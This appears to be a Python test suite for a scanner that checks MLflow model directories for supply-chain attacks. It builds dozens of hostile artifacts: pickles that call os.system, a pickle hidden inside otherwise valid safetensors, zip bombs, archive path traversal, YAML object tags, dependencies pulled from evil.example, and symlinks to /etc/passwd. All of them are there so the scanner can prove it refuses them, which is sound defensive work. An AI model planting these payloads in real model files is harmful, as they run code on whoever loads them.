"""Every trick that is known is refused, in words that name it; the honest directory passes."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import socket
import struct
import subprocess
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest
import torch
from safetensors.torch import load, save

from hardgate import serving
from hardgate.supply_chain import artifacts, disguises, formats

LOCKED = frozenset({"mlflow", "torch", "numpy", "pandas"})


ENTRY = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}


class Harm:
    """What a pickle of an attacker does when it is read."""

    def __reduce__(self):
        return os.system, ("echo harm",)


def scan(model: Path) -> artifacts.Scan:
    return artifacts.scan(model, locked=LOCKED)


def zipped(content: bytes, name: str = "archive/data.pkl") -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(name, content)
    return target.getvalue()


def tarred(content: bytes, mode: str = "w") -> bytes:
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode=mode) as archive:
        info = tarfile.TarInfo("../../data.pkl")
        info.size = len(content)
        archive.addfile(info, io.BytesIO(content))
    return target.getvalue()


def saved(save_with: Callable[[io.BytesIO], object]) -> bytes:
    target = io.BytesIO()
    save_with(target)
    return target.getvalue()


def tensors(header: object, data: bytes = b"") -> bytes:
    """A safetensors file of any header."""
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + data


def of_bytes(data: bytes, *, before: int = 0) -> bytes:
    """A safetensors file, sound in itself, whose last tensor holds these bytes."""
    held = torch.frombuffer(bytearray(data), dtype=torch.uint8)
    return save({"a": torch.zeros(before, dtype=torch.uint8), "b": held} if before else {"b": held})


def pickle_in_tensors() -> bytes:
    """Sound safetensors that the pickle module runs, by the length that stands first.

    It begins with X, BINUNICODE, whose text takes the rest of the length and the header up to a
    value. There, C opcodes of 126 bytes each lead through the header; the last of them takes the
    header's end and the first bytes of the tensor, and what follows in the tensor is run.
    """
    before, size = '{"__metadata__":{"k":"', 0x1958
    after = '"},"w":{"dtype":"U8","shape":[4096],"data_offsets":[0,4096]}}'
    assert size >> 8 == len(before) + 3
    left = size - len(before) - len(after) - 2
    whole, filling = divmod(left, 128)
    value = ("C~" + "a" * 126) * whole + "C~" + "a" * filling
    assert filling + len(after) <= 126
    rest = 126 - filling - len(after)
    data = b"a" * rest + pickle.dumps(Harm(), 0)
    return tensors((before + value + after).encode(), data.ljust(4096, b"\0"))


def tar_in_header() -> bytes:
    """Sound safetensors with the mark of a tar archive where it belongs."""
    start = '{"__metadata__":{"k":"'
    key = start + "x" * (disguises.TAR_MARK - 8 - len(start)) + 'ustar"},"a":'
    return tensors((key + json.dumps(ENTRY) + "}").encode(), bytes(8))


def hdf5_at(offset: int) -> bytes:
    data = bytearray(4096)
    start = len(of_bytes(bytes(4096))) - 4096
    data[offset - start : offset - start + 8] = disguises.HDF5
    return of_bytes(bytes(data))


DEEP = b'{"a":' * 100_000 + b"1" + b"}" * 100_000
# What lies at ``data/model/extra.bin``, and what must be said of it.
CONTENTS: dict[str, tuple[bytes, str]] = {
    **{
        f"a pickle of protocol {protocol}": (pickle.dumps(Harm(), protocol), "a pickle")
        for protocol in range(pickle.HIGHEST_PROTOCOL + 1)
    },
    "a pickle of plain values": (pickle.dumps({"a": [1, 2]}), "a pickle"),
    "a pickle that breaks after its harm": (pickle.dumps(Harm(), 4)[:-1] + b"\xff", "a pickle"),
    "a pickle behind a hundred thousand opcodes": (
        b"N0" * 60_000 + pickle.dumps(Harm()),
        "a pickle",
    ),
    "a pickle by persistent id": (b"Pevil\n.", "a pickle"),
    "a pickle by instance": (b"(S'echo harm'\nios\nsystem\n.", "a pickle"),
    "a pickle by extension code": (b"\x80\x02\x82\x01.", "a pickle"),
    "a pickle that is YAML too": (b'Vk: "\ncos\nsystem\n(Vecho harm\ntR."\n', "a pickle"),
    "a pickle in zip": (zipped(pickle.dumps(Harm())), "a zip archive"),
    "a pickle in gzip": (gzip.compress(pickle.dumps(Harm())), "gzip"),
    "a pickle in bzip2": (bz2.compress(pickle.dumps(Harm())), "bzip2"),
    "a pickle in xz": (lzma.compress(pickle.dumps(Harm())), "xz"),
    "a pickle in lzma": (lzma.compress(b"N.", format=lzma.FORMAT_ALONE), "lzma"),
    "a pickle in tar": (tarred(pickle.dumps(Harm())), "a tar archive"),
    "a pickle in tar in gzip": (tarred(pickle.dumps(Harm()), "w:gz"), "gzip"),
    "a zip bomb": (zipped(bytes(1 << 22)), "a zip archive"),
    "a zip that leads out": (zipped(b"x", "../../../etc/cron.d/x"), "a zip archive"),
    "an empty zip": (saved(lambda f: zipfile.ZipFile(f, "w").close()), "a zip archive"),
    "torch's own format": (saved(lambda f: torch.save({"a": torch.zeros(2)}, f)), "a zip archive"),
    "torch's old format": (
        saved(lambda f: torch.save([1], f, _use_new_zipfile_serialization=False)),
        "a pickle",
    ),
    "numpy objects": (saved(lambda f: np.save(f, np.array([Harm()], object))), "a numpy array of"),
    "numpy numbers": (saved(lambda f: np.save(f, np.zeros(3))), "a numpy array"),
    "numpy archives": (saved(lambda f: np.savez(f, a=np.zeros(3))), "a zip archive"),
    "HDF5": (disguises.HDF5 + bytes(512), "HDF5 from byte 0"),
    "HDF5 behind a user block": (
        b"{}".ljust(512) + disguises.HDF5 + bytes(64),
        "HDF5 from byte 512",
    ),
    "HDF5 within sound safetensors": (hdf5_at(1024), "HDF5 from byte 1024"),
    "a Keras lambda": (
        b'{"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda"}]}}',
        "a Keras lambda layer",
    ),
    "a jsonpickle": (b'{"py/reduce": [{"py/function": "os.system"}]}', "'py/reduce'"),
    "code of a hub": (b'{"auto_map": {"AutoModel": "evil.Model"}}', "'auto_map'"),
    "ONNX": (b"\x08\x07\x12\x04onnx:\x10\n\x08location\x12\x0c../../passwd", "ONNX may name data"),
    "GGUF": (b"GGUF\x03\x00\x00\x00", "GGUF"),
    "a program": (b"\x7fELF\x02\x01\x01", "a program"),
    "a script": (b"#!/bin/sh\necho harm\n", "a script"),
    "compiled Python": (b"\xa7\x0d\x0d\x0a" + bytes(12) + marshal.dumps(1), "compiled Python"),
    "Python": (b"import os\nos.system('echo harm')\n", "neither JSON, a YAML mapping nor"),
    "a zip behind safetensors": (save({"a": torch.zeros(2)}) + zipped(b"N."), "from its end"),
    "a zip within sound safetensors": (of_bytes(zipped(pickle.dumps(Harm()))), "from its end"),
    "a zip64 within sound safetensors": (
        of_bytes(disguises.END_OF_ZIP + bytes(8) + b"\xff" * 8 + bytes(2)),
        "from its end",
    ),
    "a zip behind JSON": (b'{"a": 1}' + zipped(b"N."), "from its end"),
    "a tar within sound safetensors": (tar_in_header(), "a tar archive"),
    "a pickle within sound safetensors": (pickle_in_tensors(), "a pickle"),
    "safetensors with a header beyond the file": (
        struct.pack("<Q", 900) + b"{}",
        "behind the file",
    ),
    "safetensors with an endless header": (struct.pack("<Q", 1 << 30) + b"{}", "is longer than"),
    "safetensors with more behind": (tensors({"a": ENTRY}, bytes(9)), "1 bytes follow its last"),
    "safetensors cut off": (tensors({"a": ENTRY}, bytes(7)), "1 bytes are missing"),
    "safetensors with a hole": (
        tensors({"a": ENTRY, "b": ENTRY | {"data_offsets": [12, 20]}}, bytes(20)),
        "leaves a hole",
    ),
    "safetensors that overlap": (
        tensors({"a": ENTRY, "b": ENTRY | {"data_offsets": [4, 12]}}, bytes(12)),
        "overlaps",
    ),
    "safetensors of another size": (
        tensors({"a": ENTRY | {"shape": [3]}}, bytes(8)),
        "takes 8 bytes, its shape 12",
    ),
    "safetensors of negative size": (
        tensors({"a": ENTRY | {"data_offsets": [-8, 0]}}, b""),
        "no sizes",
    ),
    "safetensors of unknown type": (
        tensors({"a": ENTRY | {"dtype": "O"}}, bytes(8)),
        "unknown type",
    ),
    "safetensors with a key twice": (
        tensors(b'{"a":' + json.dumps(ENTRY).encode() + b',"a":{}}', bytes(8)),
        "says a key twice",
    ),
    "safetensors with other keys": (tensors({"a": ENTRY | {"run": "x"}}, bytes(8)), "alone"),
    "safetensors with objects in metadata": (tensors({"__metadata__": {"a": {}}}), "not texts"),
    "JSON with a key twice": (b'{"a": 1, "a": 2}', "says a key twice"),
    "JSON without end": (DEEP, "nested too deeply"),
    "JSON with more behind": (b'{"a": 1} {"b": 2}', "not JSON"),
    "JSON in UTF-16": ('{"a": 1}'.encode("utf-16"), "no allowed format"),
    "a number without end": (b"[" + b"9" * 5000 + b"]", "not JSON"),
    "text with NUL": (b"a: 1\x00\n", "U+0000"),
    "text that turns round": ('a: "\u202eslaf"\n'.encode(), "U+202E"),
    "text with a byte order mark": (b"\xef\xbb\xbfa: 1\n", "U+FEFF"),
    "YAML that makes objects": (b'a: !!python/object/apply:os.system ["echo harm"]\n', "the tag"),
    "YAML with a tag of its own": (b"a: !harm x\n", "the tag"),
    "YAML without end": (b"a: &a [x, x]\nb: [*a, *a]\n", "an anchor"),
    "YAML in two documents": (b"a: 1\n---\nb: 2\n", "neither JSON, YAML"),
    "YAML with a key twice": (b"a: 1\na: 2\n", "says a key twice"),
    "YAML without end in depth": (b"a: " + b"[" * 500 + b"]" * 500, "nested too deeply"),
    "requirements from elsewhere": (b"torch @ https://evil.example/torch.whl\n", "neither JSON"),
    "requirements of an index": (b"--index-url https://evil.example\ntorch==2\n", "neither JSON"),
    "requirements that nobody locked": (b"torhc==2.0\n", "'torhc'"),
    "dependencies from elsewhere": (b"dependencies:\n- git+https://evil.example/x\n", "elsewhere"),
    "dependencies that nobody locked": (b"dependencies:\n- pip:\n  - torhc==1\n", "'torhc'"),
    "dependencies with options": (b"dependencies:\n- --pre torch\n", "no plain requirement"),
    "random bytes": (np.random.default_rng(0).bytes(500), ""),
    "nothing": (b"", "is empty"),
}


def test_the_honest_directory_passes(model):
    found = scan(model)
    assert found.unsafe == ()
    assert found.files == 8


def test_what_this_project_registers_is_loaded_by_the_module_that_is_allowed():
    assert serving.__name__ == artifacts.LOADER


@pytest.mark.parametrize("trick", CONTENTS)
def test_a_trick_in_a_file_is_refused_whatever_its_name(model, trick):
    content, words = CONTENTS[trick]
    for name in ("extra.bin", "weights2.safetensors", "notes.json"):
        (model / "data" / "model" / name).write_bytes(content)
    found = scan(model)
    assert len(found.unsafe) == 3
    assert all(words in each.why for each in found.unsafe), found.unsafe


def test_there_are_enough_tricks():
    assert len(CONTENTS) >= 60


def link(model):
    (model / "extra.json").symlink_to("/etc/passwd")


def link_to_folder(model):
    (model / "extra").symlink_to("/etc")


def hard_link(model):
    os.link(model / "input_example.json", model / "extra.json")


def pipe(model):
    os.mkfifo(model / "extra")


def door(model):
    with socket.socket(socket.AF_UNIX) as listening:
        here = Path.cwd()
        os.chdir(model)
        try:
            listening.bind("extra")
        finally:
            os.chdir(here)


def too_deep(model):
    path = model.joinpath(*"abcdefghijkl")
    path.mkdir(parents=True)
    (path / "extra.json").write_text("{}")


def oversized(model):
    with (model / "extra.bin").open("wb") as file:
        file.truncate(artifacts.LARGEST + 1)


def too_many(model):
    for number in range(artifacts.MOST_FILES):
        (model / f"{number}.json").write_text("{}")


def same_name(model):
    (model / "mlmodel").write_text("a: 1\n")


def unreadable_names(*names):
    def make(model):
        for name in names:
            (model / name).write_text("{}")

    return make


def described(**changes):
    def make(model):
        import yaml

        plain = yaml.safe_load((model / "MLmodel").read_text())
        plain["flavors"]["python_function"].update(changes)
        (model / "MLmodel").write_text(yaml.safe_dump(plain))

    return make


def other_flavor(model):
    text = (model / "MLmodel").read_text()
    (model / "MLmodel").write_text(text.replace("flavors:\n", "flavors:\n  sklearn: {}\n"))


@pytest.mark.parametrize(
    ("trick", "words"),
    [
        (link, "is a link"),
        (link_to_folder, "is a link"),
        (hard_link, "is a hard link"),
        (pipe, "no plain file"),
        (door, "no plain file"),
        (too_deep, "folders deep"),
        (oversized, "more than"),
        (too_many, "more than 1,000 files"),
        (same_name, "same name as MLmodel"),
        (unreadable_names(".hidden.json"), "is hidden"),
        (unreadable_names("-rf.json"), "reads as an option"),
        (unreadable_names("model.json "), "ends in a blank"),
        (unreadable_names("weights\u202esrotcesafet.json"), "signs that mislead"),
        (unreadable_names("config\u200b.json"), "signs that mislead"),
        (unreadable_names("c\u043enfig.json"), "signs that mislead"),  # a Cyrillic o
        (unreadable_names("a\nb.json"), "signs that mislead"),
        (unreadable_names("con.json"), "a device"),
        (unreadable_names("..\\..\\x.json"), "separator of another"),
        (unreadable_names("C:x.json"), "absolute"),
        (described(loader_module="evil"), "loaded by 'evil'"),
        (described(code="code"), "brings code along"),
        (described(data="../../elsewhere"), "not a file below it"),
        (described(env={"conda": "/etc/passwd"}), "not a file below it"),
        (described(model_code_path="model.py"), "has keys beyond"),
        (other_flavor, "flavors are not python_function alone"),
    ],
)
def test_a_trick_of_the_directory_is_refused(model, trick, words):
    trick(model)
    found = scan(model)
    assert found.unsafe
    assert any(words in each.why for each in found.unsafe), found.unsafe


@pytest.mark.parametrize(
    "name", ["/etc/x", "a/../x", "../x", "a//b", "a/./b", "", "a\x00b", "a" * 300]
)
def test_a_name_that_only_a_listing_can_have_is_refused(name):
    assert artifacts.check_name(name)


@pytest.mark.parametrize("first", ["torch", "click", "opacus", "ipython", "pandas", "numpy"])
def test_plain_words_that_are_opcodes_are_not_taken_for_a_pickle(first):
    content = f"{first}==2.0\nnumpy==2.4\n".encode()
    assert artifacts.check_content(content, "requirements.txt", {*LOCKED, first}) is None


def test_a_linked_directory_is_refused(model, tmp_path):
    (tmp_path / "linked").symlink_to(model)
    assert "link" in scan(tmp_path / "linked").unsafe[0].why
    assert scan(tmp_path / "missing").unsafe


def test_the_pickles_of_the_tricks_do_harm(tmp_path):
    """A refused file that is harmless would prove nothing: these run when they are read."""
    for name in (
        "a pickle that is YAML too",
        "a pickle that breaks after its harm",
        "a pickle within sound safetensors",
    ):
        path = tmp_path / "harm"
        path.write_bytes(CONTENTS[name][0])
        code = f"import pickle; pickle.load(open({str(path)!r}, 'rb'))"
        done = subprocess.run(["python3", "-c", code], capture_output=True, text=True, check=False)
        assert "harm" in done.stdout


def test_what_lies_within_sound_safetensors_is_read_by_both():
    content = CONTENTS["a pickle within sound safetensors"][0]
    formats.check_safetensors(content)
    assert load(content)["w"].shape == (4096,)
    content = CONTENTS["a zip within sound safetensors"][0]
    formats.check_safetensors(content)
    assert zipfile.ZipFile(io.BytesIO(content)).namelist() == ["archive/data.pkl"]


def test_picklescan_has_a_second_look(tmp_path):
    path = tmp_path / "x.bin"
    path.write_bytes(pickle.dumps(Harm()))
    with path.open("rb") as file:
        assert "system" in artifacts._second_look(file, "x.bin")


@pytest.mark.parametrize("seed", range(3))
def test_honest_weights_of_any_kind_pass(model, seed):
    generator = torch.Generator().manual_seed(seed)
    kinds = (torch.float32, torch.float16, torch.bfloat16, torch.float64)
    for number in range(40):
        rows = int(torch.randint(1, 60, (), generator=generator))
        made = {
            f"layer{each}.weight": torch.randn(rows, each + 3, generator=generator).to(
                kinds[each % 4]
            )
            for each in range(number % 7 + 1)
        } | {"steps": torch.tensor(number), "mask": torch.rand(5, generator=generator) > 0.5}
        (model / "data" / "model" / "weights.safetensors").write_bytes(
            save(made, {"format": "pt", "n": "x" * number})
        )
        assert scan(model).unsafe == ()
